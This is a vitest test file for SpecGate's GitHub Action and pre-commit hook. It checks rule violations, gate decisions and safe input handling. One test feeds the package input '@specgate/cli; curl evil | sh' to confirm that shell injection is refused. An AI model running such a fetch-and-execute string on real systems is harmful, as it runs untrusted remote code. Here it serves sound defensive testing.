/**
 * The GitHub Action (action.yml), its steps run as the runner would run them: each `run` script
 * in bash with the step's `env` (inputs substituted), GITHUB_ENV and GITHUB_OUTPUT files, in a
 * repository holding a design document, its rules and code that breaks one of them. `npx` is
 * replaced by the built CLI (the package test proves what npx installs).
 */
import { execFile } from "node:child_process";
import { readFileSync } from "node:fs";
import { copyFile, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { CLI, ROOT, assertBuilt } from "../helpers/spawn.js";
import { VERSION } from "../../src/version.js";

const run = promisify(execFile);

interface Step {
  name?: string;
  id?: string;
  uses?: string;
  shell?: string;
  run?: string;
  env?: Record<string, string>;
}
interface Action {
  inputs: Record<string, { default?: string; required?: boolean; description: string }>;
  outputs: Record<string, { value: string }>;
  runs: { using: string; steps: Step[] };
}

const action = parse(await readFile(path.join(ROOT, "action.yml"), "utf8")) as Action;
let repo: string;

beforeEach(async () => {
  assertBuilt();
  repo = await mkdtemp(path.join(tmpdir(), "specgate-action-"));
  await mkdir(path.join(repo, "docs/design"), { recursive: true });
  await mkdir(path.join(repo, "src/models"), { recursive: true });
  await copyFile(path.join(ROOT, "docs/examples/payment-api.md"), path.join(repo, "docs/design/payment-api.md"));
  // RULE-DATA-001's violation pattern is `parseFloat($AMOUNT)`.
  await writeFile(
    path.join(repo, "src/models/payment.ts"),
    "export function amountOf(input: string): number {\n  return parseFloat(input);\n}\n",
  );
});
afterEach(() => rm(repo, { recursive: true, force: true }));

/** Runs the action's steps in order; returns the outputs and each step's exit code. */
async function runAction(
  inputs: Record<string, string>,
): Promise<{ outputs: Record<string, string>; codes: Record<string, number> }> {
  const values = Object.fromEntries(Object.entries(action.inputs).map(([k, v]) => [k, inputs[k] ?? v.default ?? ""]));
  const substitute = (text: string) =>
    text.replace(/\$\{\{\s*inputs\.([a-z-]+)\s*\}\}/g, (_, name: string) => values[name] ?? "");
  const envFile = path.join(repo, ".github-env");
  const codes: Record<string, number> = {};
  const outputs: Record<string, string> = {};
  for (const step of action.runs.steps) {
    if (step.uses) continue;
    const outputFile = path.join(repo, `.github-output-${step.id ?? "step"}`);
    await writeFile(outputFile, "");
    const env: Record<string, string> = {
      PATH: process.env.PATH ?? "",
      HOME: process.env.HOME ?? "",
      GITHUB_ENV: envFile,
      GITHUB_OUTPUT: outputFile,
    };
    for (const [k, v] of Object.entries(step.env ?? {})) env[k] = substitute(v);
    // What GITHUB_ENV set for later steps; `npx … specgate` becomes the built CLI.
    const set = await readFile(envFile, "utf8").catch(() => "");
    for (const line of set.split("\n").filter(Boolean))
      env[line.slice(0, line.indexOf("="))] = line.slice(line.indexOf("=") + 1);
    if (env.SPECGATE) env.SPECGATE = `${process.execPath} ${CLI}`;
    expect(step.shell, step.name).toBe("bash");
    const code = await run("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", step.run!], {
      cwd: repo,
      env,
    }).then(
      () => 0,
      (e: { code: number }) => e.code,
    );
    codes[step.id ?? step.name!] = code;
    for (const line of (await readFile(outputFile, "utf8")).split("\n").filter(Boolean))
      outputs[`${step.id}.${line.slice(0, line.indexOf("="))}`] = line.slice(line.indexOf("=") + 1);
    if (code !== 0) break;
  }
  return { outputs, codes };
}

describe("action.yml", () => {
  it("is a composite action whose every input is described and used, and whose default package is this version", () => {
    expect(action.runs.using).toBe("composite");
    const text = JSON.stringify(action.runs.steps);
    for (const [name, input] of Object.entries(action.inputs)) {
      expect(input.description.length, name).toBeGreaterThan(10);
      expect(text, name).toContain(`inputs.${name}`);
    }
    // Inputs reach scripts only through env, never pasted into the script (no injection).
    for (const step of action.runs.steps) if (step.run) expect(step.run, step.name).not.toMatch(/\$\{\{/);
    expect(action.inputs.package!.default).toBe(`@specgate/cli@${VERSION}`);
  });

  it("lints the documents, checks the code and scores the gate: the finding breaks a MUST rule", async () => {
    await run(process.execPath, [CLI, "extract", "docs/design/payment-api.md"], { cwd: repo }).then(
      async ({ stdout }) => {
        await mkdir(path.join(repo, ".specgate"));
        await writeFile(path.join(repo, ".specgate/rules.json"), stdout);
      },
    );
    const { outputs, codes } = await runAction({ fail: "5", warn: "1" });
    expect(codes).toMatchObject({ lint: 0, check: 0 });
    const sarif = JSON.parse(await readFile(path.join(repo, "specgate-check.sarif"), "utf8")) as {
      runs: { results: { ruleId: string }[] }[];
    };
    expect(sarif.runs[0]!.results.map((r) => r.ruleId)).toEqual([expect.stringMatching(/RULE-DATA-001/i)]);
    expect(outputs["gate.decision"]).toBe("FAIL");
    expect(Number(outputs["gate.drift_score"])).toBeGreaterThanOrEqual(5);
    expect(codes.gate).toBe(1);
  });

  it("passes when the code keeps the rules, reading the rules straight from the document", async () => {
    await writeFile(
      path.join(repo, "src/models/payment.ts"),
      "export function amountOf(minor: number): number {\n  return minor;\n}\n",
    );
    const { outputs, codes } = await runAction({ rules: "docs/design/payment-api.md" });
    expect(codes).toEqual({ "Prepare SpecGate": 0, lint: 0, check: 0, gate: 0 });
    expect(outputs).toMatchObject({ "gate.decision": "PASS", "gate.drift_score": "0" });
  });

  it("refuses a package spec that a shell would read as syntax", async () => {
    const { codes } = await runAction({ package: "@specgate/cli; curl evil | sh" });
    expect(codes["Prepare SpecGate"]).toBe(2);
  });
});

describe(".pre-commit-hooks.yaml", () => {
  const hooks = parse(readFileSync(path.join(ROOT, ".pre-commit-hooks.yaml"), "utf8")) as {
    id: string;
    entry: string;
    language: string;
    files: string;
  }[];
  const docs = path.join(ROOT, "test/fixtures/corpus/specgate-docs/test-documents");

  it("runs specgate lint on the staged documents, as pre-commit passes them, failing on a document graded low", async () => {
    const hook = hooks.find((h) => h.id === "specgate-lint")!;
    expect(hook).toMatchObject({ language: "node", entry: "specgate lint" });
    const files = new RegExp(hook.files);
    const staged = ["01-API-Design-Perfect.md", "03-Data-Model-Design-MissingRules.md", "payment.ts"].filter((f) =>
      files.test(f),
    );
    expect(staged).toEqual(["01-API-Design-Perfect.md", "03-Data-Model-Design-MissingRules.md"]);
    // pre-commit runs the entry with the matching file names appended; the command is the package's bin.
    const [, ...args] = hook.entry.split(" ");
    const pass = await run(process.execPath, [CLI, ...args, staged[0]!], { cwd: docs });
    expect(pass.stdout).toContain("01-API-Design-Perfect.md  100/100 high");
    await expect(run(process.execPath, [CLI, ...args, ...staged], { cwd: docs })).rejects.toMatchObject({ code: 1 });
  });
});
